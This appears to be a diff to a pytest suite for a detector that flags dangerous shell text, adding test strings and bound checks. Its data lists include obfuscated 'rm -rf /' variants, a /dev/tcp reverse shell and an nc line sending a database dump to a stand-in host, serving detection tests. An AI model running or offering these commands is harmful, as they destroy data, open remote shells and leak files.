@@ -6,7 +6,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from guard.content.shell_text import is_dangerous
+from guard.content.shell_reader import WORK, read_shell
+from guard.content.shell_text import LIMIT, is_dangerous
 
 DANGEROUS = [
     "command=env",
@@ -42,6 +43,34 @@ DANGEROUS = [
     "bash -i >& /dev/tcp/10.0.0.1/44 0>&1",
     "find / -delete",
     "a=r;b=m;$a$b -rf /srv",
+    "echo cm0gLXJmIC8K | base64 -d | sh",
+    "x=$(echo 2f206672 2d206d72 | xxd -r -p | rev); $x",
+    "IFS=,;c=rm,-rf,/srv;$c",
+    "busybox sh -c 'r''m -rf /'",
+    "alias k=rm; k -rf /",
+    "bash <<E\nrm -rf /srv\nE\n",
+    "tr a-z n-za-m <<< 'ez -es /' | bash",
+    "echo / | xargs rm -rf",
+    "${PATH:0:1}bin${PATH:0:1}rm -rf /srv",
+    "set -- r m; $1$2 -rf /srv",
+    "p=/bin/mv; ${p%mv}rm -rf /srv",
+    "x=srm; ${x#s} -rf /srv",
+    "printf '%s%s -rf /' r m | sh",
+    "python3 -c \"print('rm -rf /')\" | sh",
+    "awk 'BEGIN{system(\"id\")}'",
+    "nc x.test 99 < /srv/dump.sql",
+]
+DISGUISED = [
+    "c''at notes.txt",
+    "who$@ami",
+    "w\\ho\\am\\i",
+    "un${u}ame -a",
+    "$'\\x63\\x61\\x74' notes.txt",
+    "x=tac; ${x:2:1}${x:1:1}${x:0:1} notes.txt",
+    "$(rev <<< tac) notes.txt",
+    "/b?n/c?t notes.txt",
+    "ls; l$(echo)s",
+    "true && 'c'\"a\"t notes.txt",
 ]
 EVERYDAY = [
     "ls -la /srv",
@@ -78,6 +107,18 @@ EVERYDAY = [
     "pip install -r requirements.txt",
     "dd if=a of=b.img",
     "history | tail",
+    "\\ls -l",
+    '"ls" -l',
+    "$HOME/bin/curl --version",
+    '"$VENV"/bin/python -m pip list',
+    "V=3; python$V -m venv env",
+    "${PYTHON:-python} setup.py build",
+    "while IFS= read -r line; do echo $line; done < names.txt",
+    'rm -rf "$BUILD"/out',
+    "for f in *.c; do gcc -c $f; done",
+    "cat <<EOF > a.txt\nhello\nEOF",
+    "ls /etc/*.conf",
+    "it's a plain text, isn't it? cat's `ls` and \"rm\"",
     "Usage: rm [OPTION]... [FILE]...\n -f, --force\n -r, -R, --recursive",
 ]
 
@@ -85,6 +126,12 @@ EVERYDAY = [
 @pytest.mark.parametrize("text", DANGEROUS)
 def test_a_dangerous_command_is_found_however_it_is_spelt(text: str) -> None:
     """Quotes, braces, variables, substitutions, wildcards and escapes change nothing."""
+    assert is_dangerous(text)
+
+
+@pytest.mark.parametrize("text", DISGUISED)
+def test_the_name_of_a_program_is_not_put_together_from_pieces(text: str) -> None:
+    """Harmless commands, which nobody who means no harm writes like this."""
     assert is_dangerous(text)
 
 
@@ -98,3 +145,10 @@ def test_everyday_commands_are_not_dangerous(text: str) -> None:
 def test_any_text_can_be_asked_about(text: str) -> None:
     """Expansion is bounded and nothing raises, whatever is unbalanced."""
     assert is_dangerous(text) in {True, False}
+
+
+@pytest.mark.parametrize("unit", ["a=$a$a;", "$(", '"$(', "`", "<<E\n", "{a,b}", "|sh", "${a#*"])
+def test_what_is_read_and_what_comes_out_is_bounded(unit: str) -> None:
+    """Doubling values, open brackets and endless pipelines use up the budget and end."""
+    reading = read_shell((unit * LIMIT)[:LIMIT])
+    assert len(reading.commands) <= 4 * WORK
